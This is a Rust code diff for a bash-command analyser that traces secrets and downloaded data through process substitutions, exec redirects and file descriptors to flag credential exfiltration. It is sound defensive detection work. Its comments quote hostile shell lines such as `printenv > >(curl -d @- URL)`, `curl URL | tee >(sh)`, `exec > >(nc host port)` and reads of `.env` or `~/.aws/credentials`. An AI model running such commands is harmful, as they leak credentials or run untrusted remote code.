@@ -246,11 +246,11 @@ pub(crate) struct Walker<'a> {
     /// own output (`{ echo "$tok"; }`, a loop body's `printf '%s' "$l"`): the compound
     /// command's output carries it to what it is piped into.
     pub group_out: Option<crate::model::FlowSource>,
-    /// Descriptors other than 0 opened on a secret for reading anywhere on the line (`exec
-    /// 3< .env`, `cmd 4< ~/.aws/credentials`), with the secret: `read -u 3`, `mapfile -u 4`
-    /// and `read <&3` read it. Kept for the whole line (a descriptor opened in one branch
-    /// may be read in another): it only ever makes data secret.
-    pub fd_secrets: Vec<(String, crate::model::FlowSource)>,
+    /// What a `>(…)` written by the command being resolved receives: its standard input when
+    /// that is secret or downloaded (`tee >(curl -d @- URL) < KEY`, `curl URL | tee >(sh)`
+    /// copy their input into the substitution). Set by `Walker::command` while it resolves
+    /// its words.
+    pub psub_input: Option<Producer>,
     /// `trap` handlers waiting for the end of their shell (see `Walker::run_exit_traps`).
     pub exit_traps: Vec<crate::deferred::ExitTrap>,
     /// The shell process being walked (0: the line's own shell; see `Walker::in_shell`).
@@ -294,6 +294,49 @@ fn read_only_redirect<'t>(node: Node<'t>, src: &str) -> Option<Node<'t>> {
         }
     }
     file.filter(|_| operator == Some("<"))
+}
+
+/// Whether a redirect gives standard input (`< f`, `0< f`, `<&3`, `0<&3`): `3< f` opens another
+/// descriptor.
+pub(crate) fn redirects_stdin(node: Node<'_>, src: &str) -> bool {
+    if node.kind() != "file_redirect" {
+        return false;
+    }
+    let mut cursor = node.walk();
+    let mut operator = "";
+    let mut descriptor = None;
+    for child in node.children(&mut cursor) {
+        if child.kind() == "file_descriptor" && operator.is_empty() {
+            descriptor = Some(text(child, src));
+        } else if !child.is_named() && operator.is_empty() {
+            operator = child.kind();
+        }
+    }
+    matches!(operator, "<" | "<&") && descriptor.is_none_or(|d| d == "0")
+}
+
+/// The `>(…)` a redirect sends standard output (or everything: `&>`) into: `> >(cmd)`,
+/// `1> >(cmd)`, `>> >(cmd)`. `None` for any other redirect, including `2> >(cmd)` (what a
+/// statement prints on its error stream is not what its output carries).
+fn output_substitution<'t>(node: Node<'t>, src: &str) -> Option<Node<'t>> {
+    if node.kind() != "file_redirect" {
+        return None;
+    }
+    let mut cursor = node.walk();
+    let mut operator = "";
+    let mut descriptor = None;
+    let mut destination = None;
+    for child in node.children(&mut cursor) {
+        match child.kind() {
+            "file_descriptor" if operator.is_empty() => descriptor = Some(text(child, src)),
+            "process_substitution" => destination = Some(child),
+            _ if !child.is_named() && operator.is_empty() => operator = child.kind(),
+            _ => {}
+        }
+    }
+    let stdout = matches!(operator, "&>" | "&>>")
+        || (matches!(operator, ">" | ">>" | ">|") && descriptor.is_none_or(|d| d == "1"));
+    destination.filter(|d| stdout && text(*d, src).starts_with(">("))
 }
 
 /// A compound command's output given the secret it is taken to print: that secret when
@@ -424,7 +467,7 @@ impl<'a> Walker<'a> {
             shell_stdin: Producer::Nothing,
             group_items: None,
             group_out: None,
-            fd_secrets: Vec::new(),
+            psub_input: None,
             shell: 0,
             shells: 0,
             fast_path: true,
@@ -600,6 +643,18 @@ impl Walker<'_> {
     /// Walks one statement with no piped input.
     pub(crate) fn stmt(&mut self, node: Node<'_>, src: &str, scope: &mut Scope, depth: usize) {
         let out = self.stmt_io(node, src, scope, self.shell_stdin.clone(), depth);
+        // After `exec > >(sink)`, what a statement prints to the shell's output goes to the sink.
+        if let (Producer::Secret(source), Some(sink)) = (&out, &self.files.exec_sink)
+            && !scope.remote
+            && !stdout_to_file(node, src)
+        {
+            let flow = crate::model::Flow {
+                source: source.clone(),
+                sink: sink.clone(),
+            };
+            let argv = vec![text(node, src).to_owned()];
+            self.record_flow(argv, scope, crate::taxonomy::ids::CRED_EXFILTRATE, flow);
+        }
         // A statement of a body prints to the group's own output unless it sends its stdout
         // to a file: a secret it prints is what the group prints (see `Walker::group_out`).
         if let Producer::Secret(source) = out
@@ -843,18 +898,33 @@ impl Walker<'_> {
         scope: &mut Scope,
         depth: usize,
     ) -> Producer {
+        // `>(cmd)` reads what the outer command writes into it (`curl … | tee >(sh)` runs the
+        // download): data only known at run time, so its statements' input is opaque rather
+        // than nothing — or the secret or download the outer command copies into it (`tee
+        // >(curl -d @- URL) < KEY`, see `Walker::psub_input`).
+        let input = if text(node, src).starts_with(">(") {
+            self.psub_input.clone().unwrap_or(Producer::Opaque)
+        } else {
+            Producer::Nothing
+        };
+        self.fed_substitution(node, src, scope, depth, &input)
+    }
+
+    /// Runs the statements of a substitution with `input` as their standard input; returns
+    /// what they print. A `> >(cmd)` redirect feeds `cmd` what its statement printed (see
+    /// `Walker::with_redirects`).
+    pub(crate) fn fed_substitution(
+        &mut self,
+        node: Node<'_>,
+        src: &str,
+        scope: &mut Scope,
+        depth: usize,
+        input: &Producer,
+    ) -> Producer {
         let label = if node.kind() == "process_substitution" {
             "<(…)"
         } else {
             "$(…)"
-        };
-        // `>(cmd)` reads what the outer command writes into it (`curl … | tee >(sh)` runs the
-        // download): data only known at run time, so its statements' input is opaque rather
-        // than nothing.
-        let input = if text(node, src).starts_with(">(") {
-            Producer::Opaque
-        } else {
-            Producer::Nothing
         };
         let mut inner = scope.clone();
         inner.via.push(label.to_owned());
@@ -999,10 +1069,47 @@ impl Walker<'_> {
         let (sockets, written, before) =
             (self.sockets.len(), self.written.len(), self.commands.len());
         let records = self.write_records.len();
+        // `cmd > >(sink)`: the sink reads what `cmd` prints, so it runs after `cmd` with that
+        // output as its input (`printenv > >(curl -d @- URL)`).
+        let mut fed = Vec::new();
         for redirect in redirects {
+            if let Some(sink) = output_substitution(*redirect, src) {
+                fed.push(sink);
+                continue;
+            }
             if let Some(p) = self.redirect(*redirect, src, scope, depth, &mut continuations) {
                 input = p;
             }
+        }
+        // `exec {fd}< KEY`: bash opens the file on a free descriptor (10 or above) and stores
+        // its number in `fd`, so `/dev/fd/$fd` and `<&$fd` read the secret.
+        if let (Some(b), Producer::Secret(source)) = (body, &input)
+            && b.kind() == "command"
+            && let Some(var) = text(b, src)
+                .trim()
+                .strip_prefix("exec")
+                .map(str::trim)
+                .and_then(|t| t.strip_prefix('{'))
+                .and_then(|t| t.strip_suffix('}'))
+            && !var.is_empty()
+            && var.bytes().all(|c| c.is_ascii_alphanumeric() || c == b'_')
+        {
+            let fd = (10 + self.files.fd_secrets.len()).to_string();
+            self.files.fd_secrets.push((fd.clone(), source.clone()));
+            scope.sh.set(var, crate::state::Val::Known(fd), None);
+        }
+        // `exec < KEY`, `exec 0<&3`: a bare `exec` makes the redirect the shell's own standard
+        // input, which every later command without input of its own reads.
+        // The grammar may keep the `0` of `exec 0<&3` as an argument of `exec`.
+        if let (Some(b), Producer::Secret(_)) = (body, &input)
+            && b.kind() == "command"
+            && matches!(
+                text(b, src).trim().strip_prefix("exec").map(str::trim),
+                Some("" | "0")
+            )
+            && redirects.iter().any(|r| redirects_stdin(*r, src))
+        {
+            self.shell_stdin = input.clone();
         }
         let output = match body {
             Some(b) if b.kind() == "command" => {
@@ -1028,6 +1135,18 @@ impl Walker<'_> {
             Some(b) => self.stmt_io(b, src, scope, input, depth + 1),
             None => Producer::Nothing,
         };
+        // `exec > >(nc host port)`: every later statement's output goes into the sink.
+        let bare_exec =
+            body.is_some_and(|b| b.kind() == "command" && text(b, src).trim() == "exec");
+        for sink in fed {
+            if bare_exec
+                && !scope.remote
+                && let Some(found) = self.network_sink_of(sink, src, scope, depth + 1)
+            {
+                self.files.exec_sink = Some(found);
+            }
+            let _ = self.fed_substitution(sink, src, scope, depth + 1, &output);
+        }
         self.settle_writes(records, &output);
         self.files.stdin_file = None;
         self.after_redirects(before, sockets, written, &output, scope);
@@ -1049,6 +1168,38 @@ impl Walker<'_> {
             }
         }
         last
+    }
+
+    /// The network sink a `>(…)` is, if secret data fed to it would leave the machine: a trial
+    /// walk with a marker secret as its input, whose records (and file notes) are dropped.
+    fn network_sink_of(
+        &mut self,
+        sink: Node<'_>,
+        src: &str,
+        scope: &mut Scope,
+        depth: usize,
+    ) -> Option<crate::model::FlowSink> {
+        let marker = crate::model::FlowSource::Environment {
+            by: "exec > >(…)".to_owned(),
+        };
+        let mark = self.mark();
+        let files = self.files.clone();
+        let _ = self.fed_substitution(sink, src, scope, depth, &Producer::Secret(marker.clone()));
+        let found = self
+            .commands
+            .get(mark.commands..)
+            .unwrap_or(&[])
+            .iter()
+            .find_map(|c| {
+                c.verdict
+                    .flow
+                    .as_ref()
+                    .filter(|f| f.source == marker)
+                    .map(|f| f.sink.clone())
+            });
+        self.rewind(mark);
+        self.files = files;
+        found
     }
 
     /// After a statement ran: what it printed, when known, goes on the redirect records it
@@ -1254,7 +1405,8 @@ impl Walker<'_> {
                 match operator {
                     "<&" if word.exact && is_fd(&word.text) => {
                         // `read l <&3`: what descriptor 3 was opened on, when that is a secret.
-                        self.fd_secrets
+                        self.files
+                            .fd_secrets
                             .iter()
                             .find(|(fd, _)| *fd == word.text)
                             .map(|(_, source)| Producer::Secret(source.clone()))
@@ -1264,7 +1416,7 @@ impl Walker<'_> {
                         if let (Producer::Secret(source), Some(fd)) = (&p, descriptor)
                             && fd != "0"
                         {
-                            self.fd_secrets.push((fd.to_owned(), source.clone()));
+                            self.files.fd_secrets.push((fd.to_owned(), source.clone()));
                         }
                         if let (Producer::LocalFile, crate::targets::Cwd::Known(cwd)) =
                             (&p, &scope.cwd)
